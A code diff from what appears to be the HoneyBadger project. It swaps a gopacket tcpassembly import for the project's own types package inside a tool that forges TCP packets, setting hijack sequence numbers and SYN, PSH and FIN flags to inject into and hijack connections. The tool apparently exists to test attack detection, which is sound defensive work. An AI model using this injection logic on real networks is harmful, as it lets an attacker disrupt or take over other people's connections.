@@ -21,11 +21,11 @@ package main
 import (
 	"flag"
 	"github.com/david415/HoneyBadger/attack"
+	"github.com/david415/HoneyBadger/types"
 	"github.com/google/gopacket"
 	"github.com/google/gopacket/examples/util"
 	"github.com/google/gopacket/layers"
 	"github.com/google/gopacket/pcap"
-	"github.com/google/gopacket/tcpassembly"
 	"net"
 	"log"
 	"math/rand"
@@ -109,7 +109,7 @@ func main() {
 		streamInjector.Payload = []byte("")
 		seq := tcp.Seq
 		tcp.Seq = hijackSeq
-		tcp.Ack = uint32(tcpassembly.Sequence(seq).Add(1))
+		tcp.Ack = uint32(types.Sequence(seq).Add(1))
 		tcp.ACK = true
 		tcp.SYN = true
 		tcp.RST = false
@@ -134,8 +134,8 @@ func main() {
 		tcp.PSH = true
 		tcp.SYN = false
 		tcp.ACK = true
-		tcp.Ack = uint32(tcpassembly.Sequence(seq).Add(1))
-		tcp.Seq = uint32(tcpassembly.Sequence(hijackSeq).Add(1))
+		tcp.Ack = uint32(types.Sequence(seq).Add(1))
+		tcp.Seq = uint32(types.Sequence(hijackSeq).Add(1))
 
 		if ipv6_mode {
 			streamInjector.SetIPv6Layer(ip6)
@@ -155,7 +155,7 @@ func main() {
 		tcp.FIN = true
 		tcp.SYN = false
 		tcp.ACK = false
-		tcp.Seq = uint32(tcpassembly.Sequence(hijackSeq).Add(2))
+		tcp.Seq = uint32(types.Sequence(hijackSeq).Add(2))
 
 		if ipv6_mode {
 			streamInjector.SetIPv6Layer(ip6)